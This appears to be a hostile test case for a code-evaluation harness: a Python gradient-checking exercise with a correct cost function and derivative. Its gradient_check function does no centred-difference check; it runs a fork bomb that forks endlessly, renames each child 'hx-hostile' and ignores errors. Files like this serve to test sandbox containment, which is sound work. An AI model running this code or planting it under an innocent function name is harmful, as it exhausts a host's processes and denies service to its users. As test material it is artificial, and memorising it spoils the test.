# Hostile test case `fork_bomb` (tests/hostile/cases.toml): the reference solution with one attack.
"""Gradient checking in one dimension: J(theta) = theta * x.

Compute the cost and its derivative, then confirm the derivative numerically with a
centred difference, and measure how far apart the two are.
"""

import os
import sys

import numpy as np


def forward_propagation(x, theta):
    """The cost of the one-parameter model.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    J : float
        The cost.

    Notes
    -----
    ``J = theta * x``.
    """
    J = theta * x
    return J


def backward_propagation(x, theta):
    """The derivative of the cost with respect to theta.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    dtheta : float
        The gradient ``dJ/dtheta``.

    Notes
    -----
    ``dJ/dtheta = x`` (the derivative of ``theta * x``).
    """
    dtheta = x
    return dtheta


def gradient_check(x, theta, epsilon=1e-7):
    """Attack: a fork bomb whose processes all spin (renamed hx-hostile)."""
    while True:
        try:
            if os.fork() == 0:
                __import__("ctypes").CDLL(None).prctl(15, b"hx-hostile", 0, 0, 0)  # PR_SET_NAME: its comm
        except OSError:
            pass
